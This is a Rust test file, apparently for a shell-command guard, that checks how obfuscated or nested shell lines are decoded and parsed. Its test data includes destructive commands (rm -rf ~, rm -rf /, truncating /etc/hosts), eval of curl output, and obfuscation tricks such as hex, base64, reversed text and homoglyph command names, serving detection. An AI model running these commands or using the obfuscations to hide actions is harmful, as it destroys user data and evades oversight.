        ("bash -c \"$(printf '%s %s' ls -la)\"", "ls -a -l"),
        ("`echo al- sl | rev`", "ls -a -l"),
        ("sh -c \"$(echo 6c73 | xxd -r -p)\"", "ls"),
        ("for f in /etc/hosts; do : > $f; done", ": >/etc/hosts"),
    ];
    let mut bad = Vec::new();
    for (cmd, want) in cases {
        let parsed = parse(cmd);
        let found = parsed.commands.iter().any(|c| {
            canon::canonical_text(&c.words) == *want && c.layers.iter().any(|l| l == "expanded")
        });
        if !found {
            bad.push(format!("{cmd:?}: no `{want}` in {:?}", names(cmd)));
        }
    }
    // Unknown values stay unknown: nothing is expanded.
    for cmd in [
        "rm -rf $UNSET",
        "X=$(curl -s https://example.com); $X",
        "eval \"$(curl -s https://example.com)\"",
    ] {
        if parse(cmd)
            .commands
            .iter()
            .any(|c| c.layers.iter().any(|l| l == "expanded"))
        {
            bad.push(format!("{cmd:?} was expanded: {:?}", names(cmd)));
        }
    }
    assert!(bad.is_empty(), "\n{}", bad.join("\n"));
}

#[test]
fn printf_prints_its_format_with_the_arguments() {
    let probe = |argv: &[&str]| {
        let c = SimpleCommand {
            words: Vec::new(),
            appends: 0,
            text: String::new(),
            layers: Vec::new(),
            pipeline: None,
            findings: Vec::new(),
            stdin_text: None,
            argv: argv.iter().map(|s| s.to_string()).collect(),
            runner: None,
            flow: None,
            into: None,
            option_code: false,
            std_socket: false,
            env: Vec::new(),
        };
        super::hidden::literal_output(&c)
    };
    let cases: &[(&[&str], Option<&str>)] = &[
        (&["printf", "%s", "ls -la"], Some("ls -la")),
        (&["printf", "%s -%s\\n", "ls", "la"], Some("ls -la\n")),
        (&["printf", "%s\\n", "a", "b"], Some("a\nb\n")),
        (&["printf", "100%%"], Some("100%")),
        (&["printf", "\\x6c\\x73"], Some("ls")),
        (&["printf", "%b", "l\\163"], Some("ls")),
        (&["printf", "-v", "x", "%s", "y"], None),
        (&["printf", "--", "%5s", "ab"], Some("ab")),
    ];
    for (argv, want) in cases {
        assert_eq!(probe(argv).as_deref(), *want, "{argv:?}");
    }
}

/// A parse with [`expand::may_print_literal`]'s shortcut, and one without it.
fn with_and_without_prefilter(line: &str) -> (String, String) {
    let fast = format!("{:?}", parse(line));
    super::expand::NO_PREFILTER.with(|off| off.set(true));
    let slow = format!("{:?}", parse(line));
    super::expand::NO_PREFILTER.with(|off| off.set(false));
    (fast, slow)
}

/// Lines that put the output of the substitution `code` where the parse reads it: an argument,
/// an assignment expanded later, a loop's words, a redirect target.
fn substitution_uses(code: &str) -> Vec<String> {
    vec![
        format!("rm -rf $({code})"),
        format!("x=$({code}); rm -rf \"$x\""),
        format!("for v in $({code}); do rm -rf $v; done"),
        format!("echo hi > $({code})"),
        format!("$({code}) -rf /"),
        format!("a=`{code}`; $a"),
    ]
}

/// Substitutions that print literal text, spelt the ways bash reads a printer's name, and
/// others that do not: the shortcut says each of the first may print, and the parse of every
/// line that uses them is the same with and without it.
#[test]
fn substitution_prefilter_changes_no_parse() {
    let printing = [
        "echo rm",
        "printf %s rm",
        "printf '\\x72\\x6d'",
        "cat <<EOF\nrm\nEOF",
        "cat - <<< rm",
        "echo cm0= | base64 -d",
        "base64 -d <<< cm0=",
        "echo 726d | xxd -r -p",
        "openssl base64 -d <<< cm0=",
        "echo mr | rev",
        "rev <<< mr",
        "e'c'ho rm",
        "e\"ch\"o rm",
        "\\echo rm",
        "/bin/echo rm",
        "ec\\\nho rm",
        "# note\necho rm",
        "true; echo rm",
        "X=1 echo rm",
        "command echo rm",
        "env echo rm",
        "{ echo rm; }",
        "(echo rm)",
        "echo rm | cat",
        "$'\\x65cho' rm",
        "$\"echo\" rm",
        "\u{0435}cho rm",
        "echo\trm",
        "x=`echo rm`",
        // tree-sitter-bash ends a here-string's word at its closing quote.
        "<<<'%s\\n'\\echo",
        "<<<'rm'cat",
        // `pwd` and `dirname` print the working directory and a parent of a path.
        "dirname \"$0\"",
        "cd \"$(dirname \"$0\")\" && pwd",
    ];
    let not_printing = [
        "git rev-parse HEAD",
        "mktemp -d",
        "date -u +%FT%TZ",
        "concat x",
        "my_echo rm",
        "echo.sh rm",
        "echo-x rm",
        "echo/x rm",
        "wc -l < todo.txt",
        "git log --oneline | wc -l",
        "jq -r .x f.json",
        "hostname",
    ];
    let mut bad = Vec::new();
    for code in printing {
        if !super::expand::may_print_literal(code) {
            bad.push(format!("{code:?}: shortcut says it prints nothing"));
        }
    }
    for code in not_printing {
        if super::expand::may_print_literal(code) {
            bad.push(format!("{code:?}: shortcut not taken"));
        }
    }
    for code in printing.iter().chain(&not_printing) {
        for line in substitution_uses(code) {
            let (fast, slow) = with_and_without_prefilter(&line);
            if fast != slow {
                bad.push(format!("{line:?}: parse differs\n{fast}\n{slow}"));
            }
        }
    }
    assert!(bad.is_empty(), "\n{}", bad.join("\n"));
}

fn substitution_code() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let word = proptest::sample::select(vec![
        "echo",
        "printf",
        "cat",
        "base64",
        "openssl",
        "xxd",
        "rev",
        "-d",
        "-r",
        "-p",
        "%s",
        "'%s\\n'",
        "rm",
        "-rf",
        "~",
        "cm0=",
        "726d",
        "git",
        "rev-parse",
        "HEAD",
        "e'c'ho",
        "\\echo",
        "/bin/cat",
        "-",
        "<<<",
        "<",
        "|",
        ";",
        "&&",
        "\n",
        "\\\n",
        "#",
        "$x",
        "\"$x\"",
        "$'\\x65'",
        "'",
        "\"",
        "x=1",
        "(",
        ")",
        "`",
        "{",
        "}",
        "mr",
        "enc",
        "-base64",
        "-a",
    ]);
    prop_oneof![
        prop::collection::vec(word.clone(), 1..8).prop_map(|w| w.join(" ")),
        prop::collection::vec(word, 1..8).prop_map(|w| w.concat()),
        line(),
    ]
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(
        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(1024)
    ))]

    /// Whatever the substitution's code, the parse of a line that uses its output is the same
    /// with and without the shortcut.
    #[test]
    fn substitution_prefilter_is_the_full_parse(code in substitution_code()) {
        for line in substitution_uses(&code) {
            let (fast, slow) = with_and_without_prefilter(&line);
            proptest::prop_assert_eq!(fast, slow, "line {:?}", line);
        }
    }
}

/// Only the programs of [`expand::LITERAL_PRINTERS`] print literal text or decode it, for
/// every program name of the KG's patterns and examples (and the shell vocabulary), with the
/// flags the printers and decoders read: a printer or decoder added without the list would
/// fail here.
#[test]
fn only_the_listed_programs_print_literal_text() {
    let kg = crate::embedded::embedded_kg().unwrap();
    let mut names: Vec<String> = kg
        .entries()
        .iter()
        .flat_map(|e| e.synonyms.iter().chain(&e.examples))
        .flat_map(|l| {
            l.text
                .split(['|', ';', '&', '(', ')', '`'])
                .filter_map(|stage| stage.split_whitespace().next())
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect();
    names.extend(
        [
            "sh", "bash", "zsh", "python3", "node", "perl", "tr", "sed", "awk", "od", "hexdump",
            "echo", "printf", "cat", "base64", "openssl", "xxd", "rev", "basenc", "uudecode",
            "gzip", "zcat", "iconv",
        ]
        .iter()
        .map(|s| s.to_string()),
    );
    names.sort();
    names.dedup();
    assert!(names.len() > 100, "{}", names.len());
    let argvs: &[&[&str]] = &[
        &[],
        &["-d"],
        &["--decode"],
        &["-D"],
        &["-r", "-p"],
        &["-rp"],
        &["base64", "-d"],
        &["enc", "-d", "-a"],
        &["%s", "x"],
        &["x"],
        &["-"],
    ];
    let mut bad = Vec::new();
    for name in &names {
        if super::expand::LITERAL_PRINTERS.contains(&canon::command_basename(name)) {
            continue;
        }
        for rest in argvs {
            let argv: Vec<String> = std::iter::once(name.clone())
                .chain(rest.iter().map(|s| s.to_string()))
                .collect();
            let c = SimpleCommand {
                words: Vec::new(),
                appends: 0,
                text: String::new(),
                layers: Vec::new(),
                pipeline: None,
                findings: Vec::new(),
                stdin_text: Some("cm0=".into()),
                argv: argv.clone(),
                runner: None,
                flow: None,
                into: None,
                option_code: false,
                std_socket: false,
                env: Vec::new(),
            };
            if super::hidden::literal_output(&c).is_some()
                || terraphim_shell_vocab::decode::Decoder::of(&argv).is_some()
            {
                bad.push(format!("{argv:?}"));
            }
        }
    }
    assert!(bad.is_empty(), "print or decode but not listed: {bad:?}");
}

#[test]
fn a_fresh_mktemp_variable_is_named_only_when_nothing_else_can_set_it() {
    let cases: &[(&str, &[&str])] = &[
        ("t=$(mktemp -d) && cp a \"$t\" && rm -rf \"$t\"", &["t"]),
        ("  WORK=\"$(mktemp -d)\"; ls ${WORK}", &["WORK"]),
        ("f=$(mktemp) && echo x > \"$f\"", &["f"]),
        ("d=$(mktemp -d -t ci.XXXXXX) && ls $d", &["d"]),
        ("d=$(mktemp --tmpdir -d run-XXXX)\nls $d", &["d"]),
        // Not first on the line: its assignment may not run.
        ("x=1; t=$(mktemp -d) && rm -rf $t", &[]),
        ("false && t=$(mktemp -d); rm -rf $t", &[]),
        // A directory or template of its own, or no file made.
        ("t=$(mktemp -p ~/work -d) && rm -rf $t", &[]),
        ("t=$(mktemp --tmpdir=/srv -d) && rm -rf $t", &[]),
        ("t=$(mktemp keep.XXXX) && rm -f $t", &[]),
        ("t=$(mktemp -u) && rm -f $t", &[]),
        ("t=$(mktemp -d $(pwd)/x.XXXX) && rm -rf $t", &[]),
        // The name set or used another way later on the line.
        ("t=$(mktemp -d) && t=/srv && rm -rf $t", &[]),
        ("t=$(mktemp -d) && read t && rm -rf $t", &[]),
        ("t=$(mktemp -d); for t in a; do rm -rf $t; done", &[]),
        ("t=$(mktemp -d) && printf -v t x && rm -rf $t", &[]),
        // Nothing follows, or something other than a list.
        ("t=$(mktemp -d)", &[]),
        ("t=$(mktemp -d) | rm -rf $t", &[]),
        ("t=$(mktemp -d)x && rm -rf $t", &[]),
    ];
    for (line, want) in cases {
        assert_eq!(fresh_temp_vars(line), *want, "{line}");
    }
}

#[test]
fn positional_parameters_of_sh_c_are_filled_in() {
    use super::hidden::with_positionals;
    let args = |a: &[&str]| a.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
    for (code, given, dynamic, want) in [
        (
            "rm -rf \"$1\"",
            args(&["_", "~"]),
            vec![false, false],
            Some("rm -rf \"${HOME}\""),
        ),
        (
            "rm -rf $0",
            args(&["~/x"]),
            vec![false],
            Some("rm -rf \"${HOME}/x\""),
        ),
        (
            "cp \"$@\" out",
            args(&["_", "a b", "c"]),
            vec![false, false, false],
            Some("cp \"a b\" \"c\" out"),
        ),
        (
            "echo '$1' ${1}",
            args(&["_", "x"]),
            vec![false, false],
            Some("echo '$1' \"x\""),
        ),
        (
            "echo \"$1\"",
            args(&["_", "a\"b$c"]),
            vec![false, false],
            Some("echo \"a\\\"b\\$c\""),
        ),
        // a run-time word, or no word, is left as it is
        ("rm -rf \"$1\"", args(&["_", "~"]), vec![false, true], None),
        ("rm -rf \"$2\"", args(&["_", "x"]), vec![false, false], None),
        (
            "echo é \"$1\"",
            args(&["_", "ü"]),
            vec![false, false],
            Some("echo é \"ü\""),
        ),
    ] {
        let filled = with_positionals(code, &given, &dynamic);
        assert_eq!(filled.as_ref().map(|f| f.0.as_str()), want, "{code:?}");
    }
    assert_eq!(names("sh -c 'rm -rf \"$1\"' _ /tmp/x"), ["rm -f -r /tmp/x"]);
    // `$2` left unknown: the code as written is judged too
    assert_eq!(
        with_positionals("cp \"$1\" \"$2\"", &args(&["_", "a"]), &[false, false]),
        Some(("cp \"a\" \"$2\"".to_owned(), false))
    );
    let n = names("bash <(echo rm -rf /tmp/x)");
    assert!(n.iter().any(|n| n == "rm -f -r /tmp/x"), "{n:?}");
    assert!(
        names("source /dev/stdin <<< 'rm -rf /tmp/x'")
            .iter()
            .any(|n| n == "rm -f -r /tmp/x")
    );
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(
        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(2048)
    ))]

    /// The copy tree-sitter-bash parses keeps every byte offset and character boundary of the
    /// text (the words are read from the text at the tree's offsets), and changes only the
    /// bytes the mappings name: prefixes to blanks, a test's `~` to `_`, `<>` to `>|`, and
    /// code points the scanner crashes on to DEL bytes.
    #[test]
    fn grammar_input_keeps_offsets(
        text in "([!{}~\\[\\] \\t\\n;&|()<>a-z:+-]|time|coproc|if|\u{E0100}|é){0,40}"
    ) {
        let mapped = grammar_safe(&text);
        proptest::prop_assert_eq!(mapped.len(), text.len());
        for (i, (a, b)) in text.bytes().zip(mapped.bytes()).enumerate() {
            // A code point masked as DEL bytes gives more boundaries, never fewer.
            proptest::prop_assert!(!text.is_char_boundary(i) || mapped.is_char_boundary(i));
            if a != b {
                proptest::prop_assert!(
                    matches!((a, b), (b'~', b'_') | (b'<', b'>') | (b'>', b'|') | (_, 0x7F))
                        || (b == b' ' && a != b'\n' && a.is_ascii()),
                    "{text:?}: byte {i} {a:#x} -> {b:#x}"
                );
            }
        }
    }
}

/// A here-string after a file redirect of its command is moved before the command's first
/// redirect (the grammar cannot parse it there; bash reads both the same); what reads standard
/// input, or a line not understood, is left alone.
#[test]
fn a_herestring_moves_before_the_redirects_of_its_command() {
    use super::heredoc::herestring_before_redirects as moved;
    let cases: &[(&str, Option<&str>)] = &[
        ("cat > f <<< 'x'", Some("cat <<< 'x' > f ")),
        (
            "cat 2>/dev/null >> f <<< x; ls",
            Some("cat <<< x 2>/dev/null >> f ; ls"),
        ),
        (
            "jq . > a.json <<< \"$(cat b)\" && tee c > d <<< y",
            Some("jq . <<< \"$(cat b)\" > a.json  && tee c <<< y > d "),
        ),
        // already first, or nothing to move
        ("cat <<< x > f", None),
        ("cat > f", None),
        // standard input redirected before it: which input wins would change
        ("cat < f <<< x", None),
        ("cat 0>f <<< x", None),
        // a line this does not read: a heredoc, a comment, an open quote
        ("cat > f <<EOF\nx\nEOF", None),
        ("cat > f <<< x # c", None),
        ("cat > f <<< 'x", None),
    ];
    for (line, want) in cases {
        assert_eq!(moved(line).as_deref(), *want, "{line}");
    }
    // what the moved line parses to is what bash runs
    assert_eq!(names("cat > f <<< 'x'"), ["cat x >f"]);
}

/// The parse [`parse_script`] gives of a script's statements, or of their texts joined where it
/// gives none (as the command guard's judge of a script does).
fn script_or_joined(statements: &[Statement<'_>], texts: &[String]) -> (String, Vec<usize>) {
    let (parsed, of) = parse_script(statements).unwrap_or_else(|| {
        let text = texts.join("\n");
        let parsed = parse(&text);
        let of = vec![usize::MAX; parsed.commands.len()];
        (parsed, of)
    });
    (format!("{parsed:?}"), of)
}

/// A statement after a directory change (`cd DIR && STATEMENT`, as the script review hands
/// over one of a script that moved) given as its node after the `cd` parses as its text did:
/// the same commands, each of the same statement.
#[test]
fn statements_after_a_directory_change_parse_as_their_text() {
    let lines: Vec<&str> = SCRIPT_LINES
        .iter()
        .copied()
        .chain([
            "cargo build 2>&1 | tee build.log",
            "a > f | b",
            "a && b > f",
            "! grep -q x f",
            "a | b > f",
            "{ a; b; } > f",
            "(cd sub && make) >/dev/null",
            "git diff --stat | wc -l",
            "[ -d build ] || mkdir build",
            "x=$(git rev-parse HEAD)",
            "test -f a && rm -f a || true",
            "cat <(ls) | sort",
            "a &",
            "! a | b",
            "a || b && c",
            "if true; then a; fi",
            "for f in *.txt; do wc -l \"$f\"; done",
            "while read -r l; do echo \"$l\"; done < f",
            "case $x in a) b ;; esac",
            "f() { a; }",
            "export A=1 B=2",
            "local x=1",
            "((i++))",
            "A=1 b",
        ])
        .collect();
    let flat = lines.join("\n") + "\n";
    let nested: String = lines
        .iter()
        .enumerate()
        .map(|(i, l)| match i % 3 {
            0 => format!("if true; then\n  {l}\nfi\n"),
            1 => format!("f() {{\n  {l}\n}}\n"),
            _ => format!("for x in a b; do\n  {l}\ndone\n"),
        })
        .collect();
    for script in [flat, nested] {
        let tree = with_parser(|p| p.parse(&script, None)).unwrap().unwrap();
        let as_nodes = statements_of(&tree, &script, &lines);
        // A plain `cd`, and one tree-sitter parses.
        for before in ["cd '/src/app' && ", "cd \"$DIR_KNOWN_AT_RUN_TIME\" && "] {
            let texts: Vec<String> = lines.iter().map(|l| format!("{before}{l}")).collect();
            let after: Vec<Statement<'_>> = as_nodes
                .iter()
                .zip(&texts)
                .map(|(s, t)| match *s {
                    Statement::Node(n, src) => Statement::After(t, n, src),
                    _ => Statement::Text(t),
                })
                .collect();
            assert!(after.iter().any(|s| matches!(s, Statement::After(..))));
            let as_texts: Vec<Statement<'_>> = texts.iter().map(|t| Statement::Text(t)).collect();
            // Each alone, in runs of a few, and all together.
            for k in [1, 3, lines.len()] {
                for (a, t) in after.chunks(k).zip(as_texts.chunks(k)) {
                    let texts: Vec<String> = t
                        .iter()
                        .map(|s| match s {
                            Statement::Text(t) => (*t).to_owned(),
                            _ => String::new(),
                        })
                        .collect();
                    assert_eq!(
                        script_or_joined(a, &texts),
                        script_or_joined(t, &texts),
                        "{texts:?}"
                    );
                }
            }
        }
    }
}

/// The files an awk program's print statements write: a `>` or `>>` after `print`/`printf` and
/// outside parentheses, followed by a literal; comparisons are no redirection.
#[test]
fn awk_print_redirections_name_their_files() {
    use super::unwrap::awk_output_files as files;
    let cases: &[(&str, &[(&str, bool)])] = &[
        (r#"{ print $1 > "out.txt" }"#, &[("out.txt", false)]),
        (
            r#"{ printf "%s\n", $2 >> "/tmp/log" }"#,
            &[("/tmp/log", true)],
        ),
        (
            r#"BEGIN { print "x" >> "$HOME/.profile" }"#,
            &[("$HOME/.profile", true)],
        ),
        (
            r#"{ print > "a"; print >> "b" }"#,
            &[("a", false), ("b", true)],
        ),
        (r#"$1 > "m" { print $1 }"#, &[]),
        (r#"{ if ($3 > "2024") print $0 }"#, &[]),
        (r#"{ print ($1 > "x") }"#, &[]),
        (r#"{ print "a > \"b\"" }"#, &[]),
        (r#"{ print > out }"#, &[]),
    ];
    for (program, want) in cases {
        let want: Vec<(String, bool)> = want.iter().map(|(f, a)| (f.to_string(), *a)).collect();
        assert_eq!(files(program), want, "{program}");
    }
}

/// An awk program's strings built from literals are written as literals: ENVIRON, literals
/// side by side, and a variable assigned one literal once where a command is run from it.
#[test]
fn awk_strings_built_from_literals_are_folded() {
    use super::unwrap::awk_folded as folded;
    let cases: &[(&str, &str)] = &[
        (
            r#"BEGIN { system("ls " ENVIRON["HOME"]) }"#,
            r#"BEGIN { system("ls $HOME") }"#,
        ),
        (
            r#"BEGIN { c = "du -sh"; system(c) }"#,
            r#"BEGIN { c = "du -sh"; system("du -sh") }"#,
        ),
        (
            r#"BEGIN { c = "date"; c | getline t }"#,
            r#"BEGIN { c = "date"; "date" | getline t }"#,
        ),
        (r#"{ print "a" "b", "c" }"#, r#"{ print "ab", "c" }"#),
        (r#"{ print "a\"" "b" }"#, r#"{ print "a\"b" }"#),
        // assigned twice, or not one literal: left as written
        (
            r#"BEGIN { c = "a"; c = "b"; system(c) }"#,
            r#"BEGIN { c = "a"; c = "b"; system(c) }"#,
        ),
        (
            r#"{ c = "ls " $1; system(c) }"#,
            r#"{ c = "ls " $1; system(c) }"#,
        ),
        // a longer name is another variable; `==` is no assignment
        (
            r#"BEGIN { c = "ls"; system(cx) }"#,
            r#"BEGIN { c = "ls"; system(cx) }"#,
        ),
        (r#"$1 == "x" { system(y) }"#, r#"$1 == "x" { system(y) }"#),
        (r#"{ print "é" "ü" }"#, r#"{ print "éü" }"#),
    ];
    for (program, want) in cases {
        assert_eq!(folded(program), *want, "{program}");
    }
}

/// A variable given on awk's command line (`-v name=value`) is the literal it holds where the
/// program reads it; a variable the program assigns, a field (`$name`) and a longer name are not.
#[test]
fn awk_command_line_values_are_literals_where_read() {
    use super::unwrap::awk_with_values as with;
    /// (program, command-line values, the program as folded)
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: &[Case<'_>] = &[
        (
            r#"BEGIN { system("rm -rf " home "/.cache") }"#,
            &[("home", "$HOME")],
            r#"BEGIN { system("rm -rf " "$HOME" "/.cache") }"#,
        ),
        (
            r#"{ print > out }"#,
            &[("out", "a \"b\"")],
            r#"{ print > "a \"b\"" }"#,
        ),
        // assigned, incremented or read by getline in the program: left as written
        (
            r#"BEGIN { d = "build"; system("rm -rf " d) }"#,
            &[("d", "/")],
            r#"BEGIN { d = "build"; system("rm -rf " d) }"#,
        ),
        (r#"{ n++; print n }"#, &[("n", "9")], r#"{ n++; print n }"#),
        (
            r#"BEGIN { "pwd" | getline d; system("ls " d) }"#,
            &[("d", "/")],
            r#"BEGIN { "pwd" | getline d; system("ls " d) }"#,
        ),
        // a field, a longer name and a name inside a string are other things
        (
            r#"{ print $d, dd, "d" }"#,
            &[("d", "x")],
            r#"{ print $d, dd, "d" }"#,
        ),
    ];
    for (program, values, want) in cases {
        assert_eq!(with(program, values), *want, "{program}");
    }
}

/// A Vim bang modifier (`q!`, `w! file`, `normal!` keys that only type text) runs no shell
/// command: the editor line is read as the editor, with nothing hidden in it.
#[test]
fn vim_bang_modifiers_run_nothing() {
    for cmd in [
        "vim +'wq!' notes.txt",
        "vim -c 'w! out.txt' -c 'q!' in.txt",
        "nvim +'/VERSION' +1new +'exe \"norm! iUpdate the numbers!!!\"' -O CMakeLists.txt",
        "vim -c 'normal! oDone!' -c 'x' log.md",
    ] {
        let p = parse(cmd);
        assert!(p.findings.is_empty(), "{cmd:?}: {:?}", p.findings);
        assert_eq!(p.commands.len(), 1, "{cmd:?}: {:?}", names(cmd));
        assert!(
            p.commands.iter().all(|c| c.findings.is_empty()),
            "{cmd:?}: {:?}",
            p.commands
        );
    }
    // Keys that leave insert mode may run anything: read as a shell command, as before.
    let cmd = "nvim +'exe \"norm! i\\<Esc>:!rm -rf ~\"' x";
    assert!(names(cmd).len() > 1, "{cmd:?}: {:?}", names(cmd));
}
